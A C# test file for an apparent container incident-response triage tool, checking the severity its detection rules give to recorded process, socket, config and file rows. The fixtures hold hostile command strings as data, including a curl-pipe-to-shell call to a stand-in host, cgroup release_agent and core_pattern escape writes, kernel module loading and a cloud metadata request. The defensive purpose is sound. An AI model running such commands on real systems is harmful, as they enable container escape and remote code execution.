using ContainerIR.Analyzers;
using ContainerIR.Tests.Bundles;
using ContainerIR.Tests.Some;
using Xunit;

namespace ContainerIR.Tests.Analyzers;

/// <summary>Rules whose happening the test machine cannot stage, or only with what its kernel forbids: rows recorded by hand, each beside its false positive.</summary>
public sealed class Triage_of_recorded_rows
{
    private const string Told = """{"process":{"capabilities":{"bounding":["CAP_CHOWN"]}},"linux":{"seccomp":{}}}""";

    [Theory]
    [InlineData("CIR-011", "critical", """{"pid":9,"comm":"sh","cmdline":["sh"],"exe":{"link":"/bin/sh"},"status":{"CapEff":"0000000000200001","CapPrm":"0","Seccomp":"2"}}""")]
    [InlineData("CIR-011", "", """{"pid":9,"comm":"sh","cmdline":["sh"],"exe":{"link":"/bin/sh"},"status":{"CapEff":"0000000000000001","CapPrm":"1","Seccomp":"2"}}""")]
    [InlineData("CIR-011", "", """{"pid":9,"comm":"sh","signs":["foreign-namespace:user"],"exe":{"link":"/bin/sh"},"status":{"CapEff":"0000003fffffffff","CapPrm":"1","Seccomp":"2"}}""")]
    [InlineData("CIR-012", "high", """{"pid":9,"comm":"sh","exe":{"link":"/bin/sh"},"status":{"Seccomp":"0"}}""")]
    [InlineData("CIR-012", "", """{"pid":9,"comm":"runc:[2:INIT]","cmdline":["runc","init"],"exe":{"link":"/"},"status":{"Seccomp":"0"}}""")]
    [InlineData("CIR-013", "critical", """{"pid":9,"signs":["host-namespace:mnt"],"exe":{"link":"/bin/sh"},"status":{"Seccomp":"2"}}""")]
    [InlineData("CIR-013", "info", """{"pid":9,"comm":"runc:[2:INIT]","cmdline":["runc","init"],"signs":["host-namespace:mnt"],"exe":{"link":"/"}}""")]
    [InlineData("CIR-014", "critical", """{"pid":9,"signs":["left-cgroup"],"exe":{"link":"/bin/sh"},"status":{"Seccomp":"2"}}""")]
    [InlineData("CIR-006", "info", """{"pid":9,"comm":"runc:[2:INIT]","cmdline":["runc","init"],"exe":{"link":"/memfd:runc_cloned:/proc/self/exe (deleted)","memory":true,"deleted":true}}""")]
    [InlineData("CIR-006", "critical", """{"pid":9,"comm":"x","cmdline":["runc","init"],"exe":{"link":"/memfd:runc_cloned:/proc/self/exe (deleted)","memory":true,"deleted":true}}""")]
    [InlineData("CIR-015", "high", """{"pid":9,"cmdline":["sh","-c","echo /x > /c/release_agent"],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-015", "", """{"pid":9,"cmdline":["grep","release_agent","/x"],"exe":{"link":"/bin/grep"}}""")]
    [InlineData("CIR-016", "high", """{"pid":9,"cmdline":["sh","-c","echo '|/x' > /proc/sys/kernel/core_pattern"],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-016", "", """{"pid":9,"cmdline":["cat","/proc/sys/kernel/core_pattern"],"exe":{"link":"/bin/cat"}}""")]
    [InlineData("CIR-037", "low", """{"pid":9,"cmdline":["nmap"],"exe":{"link":"/usr/bin/nmap"}}""")]
    [InlineData("CIR-038", "high", """{"pid":9,"cmdline":["sh","-c","curl -s http://x/y | sh"],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-038", "", """{"pid":9,"cmdline":["sh","-c","curl -s http://x/y | tee z; ls | sort"],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-048", "medium", """{"pid":9,"exe":{"link":"/bin/sh"},"status":{"TracerPid":"77"}}""")]
    [InlineData("CIR-048", "", """{"pid":9,"exe":{"link":"/bin/sh"},"status":{"TracerPid":"0"}}""")]
    [InlineData("CIR-050", "high", """{"pid":9,"cmdline":["insmod","x.ko"],"exe":{"link":"/bin/busybox"}}""")]
    [InlineData("CIR-058", "medium", """{"pid":9,"cmdline":["sh"],"tty":34816,"signs":["engine-exec"],"exe":{"link":"/bin/busybox"}}""")]
    [InlineData("CIR-058", "", """{"pid":9,"cmdline":["sh"],"tty":0,"signs":["engine-exec"],"exe":{"link":"/bin/busybox"}}""")]
    [InlineData("CIR-001", "critical", """{"pid":9,"cmdline":["grep","-o","stratum+tcp://x:1"],"exe":{"link":"/tmp/x (deleted)","deleted":true}}""")]
    public async Task Judges_a_process(string rule, string severity, string row) =>
        Assert.Equal(severity, SeverityOf(await SomeTriage.OfRowsAsync(row + "\n", specification: Told), rule));

    [Fact]
    public async Task Lowers_an_install_script_that_is_the_containers_own_command()
    {
        TriageReport report = await SomeTriage.OfRowsAsync(
            """{"pid":9,"nspid":[9,1],"cmdline":["sh","-c","curl -s http://x/y | sh"],"exe":{"link":"/bin/sh"}}""",
            inspect: """{"Path":"sh","Args":["-c","curl -s http://x/y | sh"]}""");
        Assert.Equal("low", SeverityOf(report, "CIR-038"));
    }

    [Theory]
    [InlineData("CIR-002", "medium", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"203.0.113.9","remote_port":3333,"peer":"public","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-002", "", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"10.0.0.9","remote_port":3333,"peer":"private","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-041", "medium", "/bin/sh", """{"protocol":"tcp","state":"ESTABLISHED","remote":"203.0.113.9","remote_port":443,"peer":"public","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-041", "", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"203.0.113.9","remote_port":443,"peer":"public","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-042", "high", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"169.254.169.254","remote_port":80,"peer":"private","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-042", "", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"169.254.1.1","remote_port":80,"peer":"private","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-049", "medium", "/usr/bin/app", """{"protocol":"packet","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-049", "low", "/usr/bin/tcpdump", """{"protocol":"packet","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-049", "", "/usr/bin/app", """{"protocol":"packet","inode":5,"owners":[{"pid":77,"member":false}]}""")]
    [InlineData("CIR-040", "low", "/usr/bin/nc", """{"protocol":"tcp","state":"LISTEN","local_port":9,"inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-040", "", "/usr/bin/app", """{"protocol":"tcp","state":"LISTEN","local_port":9,"inode":5,"owners":[{"pid":9,"member":true}]}""")]
    public async Task Judges_a_socket(string rule, string severity, string executable, string row) =>
        Assert.Equal(severity, SeverityOf(await SomeTriage.OfRowsAsync($$$"""{"pid":9,"cmdline":["x"],"exe":{"link":"{{{executable}}}"}}""" + "\n", row + "\n"), rule));

    [Theory]
    [InlineData("CIR-010", "critical", """{"Config":{"WorkingDir":"/proc/self/fd/8"}}""")]
    [InlineData("CIR-010", "", """{"Config":{"WorkingDir":"/process/self/fd"}}""")]
    [InlineData("CIR-020", "high", """{"HostConfig":{"Privileged":true}}""")]
    [InlineData("CIR-020", "", """{"HostConfig":{"Privileged":false}}""")]
    [InlineData("CIR-021", "", """{"HostConfig":{"CapAdd":["NET_ADMIN","CHOWN"]}}""")]
    [InlineData("CIR-021", "high", """{"HostConfig":{"CapAdd":["NET_ADMIN"],"NetworkMode":"host"}}""")]
    [InlineData("CIR-018", "", """{"Mounts":[{"Type":"bind","Source":"/srv/app.sock","Destination":"/app.sock","RW":true}]}""")]
    [InlineData("CIR-023", "", """{"HostConfig":{"PidMode":"container:x","NetworkMode":"bridge"}}""")]
    [InlineData("CIR-024", "", """{"Path":"sh","Args":["-c","df"],"Mounts":[{"Type":"bind","Source":"/","Destination":"/host","RW":false}]}""")]
    [InlineData("CIR-062", "info", """{"RestartCount":50}""")]
    [InlineData("CIR-062", "", """{"RestartCount":2}""")]
    public async Task Judges_a_configuration(string rule, string severity, string inspect) =>
        Assert.Equal(severity, SeverityOf(await SomeTriage.OfRowsAsync(inspect: inspect), rule));

    [Theory]
    [InlineData("CIR-005", "low", "other", true)]
    [InlineData("CIR-005", "high", "other", false)]
    [InlineData("CIR-005", "high", "missing", true)]
    public async Task Tells_an_upgrade_from_a_deleted_program(string rule, string severity, string pathNow, bool hasPackageChange)
    {
        TriageReport report = await SomeTriage.OfRowsAsync(
            $$$"""{"pid":9,"cmdline":["app"],"exe":{"link":"/usr/bin/app (deleted)","deleted":true,"path_now":"{{{pathNow}}}"}}""",
            entries: hasPackageChange ? Entry("/var/lib/dpkg/status") : "");
        Assert.Equal(severity, SeverityOf(report, rule));
    }

    [Theory]
    [InlineData("CIR-029", "low", "/root/.ssh/authorized_keys", 105)]
    [InlineData("CIR-029", "high", "/root/.ssh/authorized_keys", 500)]
    [InlineData("CIR-029", "high", "/root/.ssh/authorized_keys", 50)]
    [InlineData("CIR-034", "low", "/var/www/cache.php", 105)]
    [InlineData("CIR-035", "low", "/start.sh", 105)]
    [InlineData("CIR-026", "", "/etc/ld.so.conf", 500)]
    [InlineData("CIR-031", "", "/etc/pam.conf.d/x", 500)]
    [InlineData("CIR-050", "", "/opt/x.kot", 500)]
    [InlineData("CIR-056", "", "/usr/bin/falco", 500)]
    [InlineData("CIR-054", "", "/usr/bin/x", 500)]
    public async Task Judges_a_changed_file_by_when_it_was_written(string rule, string severity, string path, int changedAt)
    {
        TriageReport report = await SomeTriage.OfRowsAsync(entries: Entry(path, changedAt), inspect: """{"State":{"StartedAt":"1970-01-01T00:01:40Z"},"Config":{"Entrypoint":["/start.sh"]}}""");
        Assert.Equal(severity, SeverityOf(report, rule));
    }

    [Fact]
    public async Task Keeps_the_exact_bytes_of_a_hostile_name()
    {
        byte[] name = [.. "/root/.ssh/\u001b[2J"u8, 0xff, .. "/authorized_keys"u8];
        TriageReport report = await SomeTriage.OfRowsAsync(entries: $$"""{"path_b64":"{{Convert.ToBase64String(name)}}","kind":"file","verdict":"added","mode":"644","size":1,"ino":5}""");

        SeenValue path = Assert.Single(report.Findings, finding => finding.Rule.Id == "CIR-029").Seen[0];
        Assert.Equal(name, path.Exact);
        Assert.DoesNotContain('\u001b', path.Text);
    }

    [Fact]
    public async Task Says_what_it_could_not_examine()
    {
        TriageReport report = await SomeTriage.OfRowsAsync("this is no row\n");
        Assert.Contains(report.NotExamined, what => what.Contains("1 lines are no rows", StringComparison.Ordinal));

        using TemporaryFolder folder = new();
        string empty = (await SomeBundle.SmallAsync(folder)).Path;
        Assert.Contains(Triage.Run(empty, CancellationToken.None).NotExamined, what => what.StartsWith("processes/", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Gives_the_same_findings_for_the_same_bytes_and_bounds_those_of_one_rule()
    {
        string rows = string.Concat(Enumerable.Range(1, 80).Select(pid => $$$"""{"pid":{{{pid}}},"signs":["left-cgroup"],"exe":{"link":"/bin/sh"}}""" + "\n"));
        TriageReport first = await SomeTriage.OfRowsAsync(rows), second = await SomeTriage.OfRowsAsync(rows);

        Assert.Equal(50, first.Findings.Count);
        Assert.Equal(30, first.LeftOut["CIR-014"]);
        Assert.Equal(first.Findings.Select(finding => finding.Where), second.Findings.Select(finding => finding.Where));
        Assert.Equal(40, first.Score);
    }

    private static string Entry(string path, int changedAt = 500) =>
        $$"""{"path_b64":"{{Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(path))}}","kind":"file","verdict":"added","mode":"755","size":9,"ino":5,"ctime":"{{changedAt}}","mtime":"{{changedAt}}"}""" + "\n";

    private static string SeverityOf(TriageReport report, string rule) =>
        report.Findings.FirstOrDefault(finding => finding.Rule.Id == rule)?.Severity.ToString().ToLowerInvariant() ?? "";
}

/// <summary>The lists of analyzers and rules.</summary>
public sealed class The_list_of_analyzers
{
    [Fact]
    public void Names_every_analyzer_file()
    {
        string folder = Path.Combine(Repository.Root, "src", "ContainerIR", "Analyzers");
        string list = File.ReadAllText(Path.Combine(folder, "AnalyzerList.cs"));
        Assert.DoesNotContain(
            Directory.EnumerateFiles(folder, "*Analyzer.cs").Select(file => Path.GetFileNameWithoutExtension(file)!).Where(name => name != nameof(IAnalyzer)),
            name => !list.Contains($"new {name}(", StringComparison.Ordinal));
    }

    [Fact]
    public void Has_each_rule_once_in_order_in_the_document_and_in_the_code()
    {
        string document = File.ReadAllText(Path.Combine(Repository.Root, "docs", "triage.md"));
        string folder = Path.Combine(Repository.Root, "src", "ContainerIR", "Analyzers");
        string code = string.Concat(Directory.EnumerateFiles(folder, "*Analyzer.cs").Select(File.ReadAllText));
        Assert.Equal(RuleList.All.Select(rule => rule.Id).Distinct().Order(StringComparer.Ordinal), RuleList.All.Select(rule => rule.Id));
        Assert.All(RuleList.All, rule => Assert.Contains($"| {rule.Id} | {rule.Severity.ToString().ToLowerInvariant()} |", document, StringComparison.Ordinal));
        Assert.All(RuleList.All, rule => Assert.Contains($"\"{rule.Id}\"", code, StringComparison.Ordinal));
    }
}
